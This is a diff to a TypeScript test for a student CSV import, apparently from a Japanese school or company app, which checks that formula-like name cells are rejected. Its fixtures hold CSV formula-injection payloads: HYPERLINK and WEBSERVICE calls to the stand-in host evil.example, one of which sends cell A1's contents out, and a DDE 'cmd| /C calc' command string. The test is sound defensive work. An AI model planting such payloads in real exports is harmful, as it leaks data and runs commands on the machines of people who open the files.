@@ -171,12 +171,18 @@ describe('data import files', () => {
     const rows = await exportRows();
     const header = rows[0]!;
     const col = (label: string) => header.indexOf(label);
-    const injected = rows.slice(1, 4).map((r) => [...r]);
-    injected[0]![col('名')] = '=HYPERLINK("https://evil.example/?"&A1,"詳細")';
-    injected[1]![col('名')] = '\t@SUM(1+1)*cmd|\' /C calc\'!A0';
-    injected[2]![col('名')] = '=1+1';
+    // Every cell the export would neutralise (=, +, - or @ after optional blanks, src/shared/spreadsheetFormula.ts) is
+    // a formula here too, the review's quoted ones among them; a plain number and the export's apostrophe are data.
+    const formulas = [
+      '=HYPERLINK("https://evil.example/?"&A1,"詳細")', '\t@SUM(1+1)*cmd|\' /C calc\'!A0', '=1+1',
+      '=1+HYPERLINK("https://evil.example/","x")', '=(HYPERLINK("https://evil.example/"))', '="a"&HYPERLINK("https://evil.example/")',
+      '= 0+WEBSERVICE("https://evil.example/")',
+    ];
+    const data = ['\'=1+HYPERLINK("x")', '-5'];
+    const injected = rows.slice(1, 1 + formulas.length + data.length).map((r) => [...r]);
+    [...formulas, ...data].forEach((cell, i) => { injected[i]![col('名')] = cell; });
     const answer = (await check(Buffer.from(Papa.unparse([header, ...injected]), 'utf8'), { name: 'students.csv', type: 'text/csv' })).json() as { errors: Array<{ row: number; column: string; message: string }> };
-    expect(answer.errors).toEqual([2, 3].map((row) => ({ row, column: '名', message: expect.stringMatching(/数式.*取り込めません/) })));
+    expect(answer.errors).toEqual(formulas.map((_, i) => ({ row: i + 2, column: '名', message: expect.stringMatching(/数式.*取り込めません/) })));
 
     // A student named like a formula: the export writes '=1+1 and '-5, the import reads =1+1 and -5 again.
     const first = await app.t.db.selectFrom('students').select(['id', 'first_name_kanji', 'family_name_kanji']).where('company_id', '=', app.companyId).orderBy('id').executeTakeFirstOrThrow();
